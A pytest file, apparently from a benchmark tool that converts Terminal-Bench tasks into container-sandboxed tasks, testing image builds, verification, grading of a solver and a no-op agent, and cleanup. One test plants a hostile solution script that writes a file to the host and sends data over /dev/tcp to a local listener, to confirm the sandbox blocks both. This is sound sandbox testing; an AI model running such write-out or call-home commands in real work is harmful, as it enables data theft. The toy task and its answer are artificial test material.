"""Terminal-Bench tasks that need their own image: converted into container tasks, proven
and verified in the image, a solver succeeding and a no-op failing in the container sandbox,
hostile material contained, a missing base image one reason, and nothing left behind.

Real podman and a base image built here with debootstrap (`container_base`); marked slow.
"""

from __future__ import annotations

import json
import socket
from pathlib import Path
from typing import Any

import pytest
import yaml

from localagentbench._proc import run_process
from localagentbench.importers import import_terminal_bench
from localagentbench.sandbox import CONTAINER_LABEL, engine_env

pytestmark = pytest.mark.slow

SUM_TEST = """\
import json
import subprocess


def test_sum(tmp_path):
    data = tmp_path / "a.json"
    data.write_text(json.dumps([{"n": 2}, {"n": 5}]))
    out = subprocess.run(["sh", "/app/total.sh", str(data)], capture_output=True, text=True)
    assert out.stdout.strip() == "7"


def test_script_is_a_script():
    assert open("/app/total.sh").read().startswith("#!")
"""


def _task(
    root: Path,
    base: str,
    *,
    name: str = "jq-total",
    solution: str | None = None,
    verifier: str = "#!/bin/bash\npytest /tests/test_outputs.py\n",
    packages: str = "python3 python3-pytest jq",
) -> Path:
    """A Terminal-Bench task whose image is the base plus Debian packages (jq, pytest):
    /app/total.sh counts the "n" fields of a JSON array where it should sum them."""
    folder = root / name
    (folder / "tests").mkdir(parents=True)
    (folder / "task.yaml").write_text(
        yaml.safe_dump(
            {
                "instruction": "/app/total.sh prints how many `n` fields the JSON array given "
                "to it has. Make it print their sum.",
                "difficulty": "easy",
                "category": "software-engineering",
                "max_agent_timeout_sec": 120,
                "max_test_timeout_sec": 60,
            }
        )
    )
    (folder / "Dockerfile").write_text(
        f"FROM --platform=linux/amd64 {base}\n"
        "RUN apt-get update && apt-get install -y --no-install-recommends "
        f"{packages} && rm -rf /var/lib/apt/lists/*\n"
        "WORKDIR /app\nCOPY total.sh /app/total.sh\n"
    )
    (folder / "total.sh").write_text('#!/bin/sh\njq "[.[].n] | length" "$1"\n')
    (folder / "solution.sh").write_text(
        solution or "#!/bin/bash\nsed -i 's/| length/| add/' /app/total.sh\n"
    )
    (folder / "run-tests.sh").write_text(verifier)
    (folder / "tests" / "test_outputs.py").write_text(SUM_TEST)
    return folder


def _containers(engine: Any) -> list[str]:
    ps = engine.command("ps", "-a", "-q", "--filter", f"label={CONTAINER_LABEL}")
    return run_process(ps, env=engine_env()).stdout.split()


def _volumes(engine: Any) -> list[str]:
    return run_process(engine.command("volume", "ls", "-q"), env=engine_env()).stdout.split()


def _record(run_dir: Path) -> dict[str, Any]:
    (path,) = run_dir.glob("trials/*/record.json")
    return dict(json.loads(path.read_text()))


def test_a_task_with_its_own_image_converts_verifies_and_grades(
    tmp_path: Path, container_base: tuple[Any, str], cli: Any
) -> None:
    engine, base = container_base
    before = (_containers(engine), _volumes(engine))
    _task(tmp_path / "tb", base)
    out = tmp_path / "suite"
    result = import_terminal_bench(tmp_path / "tb", out)
    assert result.written == ["tb-jq-total"], result.rejected
    data = yaml.safe_load((out / "tb-jq-total" / "task.yaml").read_text())
    assert data["container"] == {"dockerfile": "container/Dockerfile"}
    assert data["fail_to_pass"] == ["tests/test_outputs.py::test_sum"]
    # The image is built from the context without the answers.
    shipped = {p.name for p in (out / "tb-jq-total" / "container").iterdir()}
    assert shipped == {"Dockerfile", "total.sh"}

    code, stdout, stderr = cli("env", "build", "--tasks", str(out))
    assert code == 0, stdout + stderr
    assert "image localhost/localagentbench-task/tb-jq-total:v1-" in stdout  # built once, kept

    code, stdout, stderr = cli("verify", "--tasks", str(out), "--no-record")
    assert code == 0, stdout + stderr
    assert "ok   tb-jq-total" in stdout

    agents = tmp_path / "agents"
    agents.mkdir()
    outcomes = {}
    for name, script in {
        "solver": "#!/bin/sh\nsed -i 's/| length/| add/' total.sh\necho fixed\n",
        "noop": "#!/bin/sh\necho done\n",
    }.items():
        agent = agents / f"{name}.sh"
        agent.write_text(script)
        agent.chmod(0o755)
        run_dir = tmp_path / "runs" / name
        code, stdout, stderr = cli(
            "run", "--tasks", str(out), "--agent", "command", "--agent-cmd", str(agent),
            "--out", str(run_dir),
        )  # fmt: skip
        assert code == 0, stdout + stderr
        record = _record(run_dir)
        assert record["isolation"] == engine.name
        outcomes[name] = (record["status"], record["success"])
    assert outcomes == {"solver": ("completed", True), "noop": ("completed", False)}
    assert (_containers(engine), _volumes(engine)) == before


def test_a_hostile_solution_in_its_image_neither_writes_out_nor_connects(
    tmp_path: Path, container_base: tuple[Any, str]
) -> None:
    """Threat: the downloaded task's solution writes to the host and calls home while it is
    being imported. It runs in the task's image with no network and only its copy mounted."""
    _, base = container_base
    outside = tmp_path / "outside.txt"
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(0.1)
        port = listener.getsockname()[1]
        hostile = (
            "#!/bin/bash\n"
            f"echo owned > {outside}\n"
            f"(echo hello > /dev/tcp/127.0.0.1/{port}) 2>/dev/null\n"
            "sed -i 's/| length/| add/' /app/total.sh\n"
        )
        _task(tmp_path / "tb", base, solution=hostile)
        import_terminal_bench(tmp_path / "tb", tmp_path / "suite")
        with pytest.raises(TimeoutError):
            listener.accept()
    assert not outside.exists()


def test_a_missing_base_image_is_one_reason(
    tmp_path: Path, container_base: tuple[Any, str]
) -> None:
    """Nothing is pulled here: a Dockerfile from an image this machine lacks is rejected
    with the reason, not tried against a registry."""
    _task(tmp_path / "tb", "localhost/localagentbench-absent:1")
    result = import_terminal_bench(tmp_path / "tb", tmp_path / "suite")
    assert result.written == []
    (rejected,) = result.rejected
    assert rejected.reason == "image does not build"
    assert "base image is not on this machine" in rejected.detail
    assert "\n" not in rejected.detail


def test_what_the_verifier_installs_at_test_time_goes_into_the_image(
    tmp_path: Path, container_base: tuple[Any, str]
) -> None:
    """Terminal-Bench verifiers fetch pytest when the tests start; graded runs have no
    network, so the import puts it in the image (pip, from the registry, at build time)."""
    _, base = container_base
    verifier = "#!/bin/bash\nuv venv .tests && uv pip install pytest==8.3.5\nuv run pytest /tests\n"
    _task(tmp_path / "tb", base, verifier=verifier, packages="python3 jq")
    out = tmp_path / "suite"
    result = import_terminal_bench(tmp_path / "tb", out)
    assert result.written == ["tb-jq-total"], result.rejected
    dockerfile = (out / "tb-jq-total" / "container" / "Dockerfile").read_text()
    assert dockerfile.rstrip().endswith(" pytest==8.3.5")
    assert "pip install --no-cache-dir --break-system-packages" in dockerfile
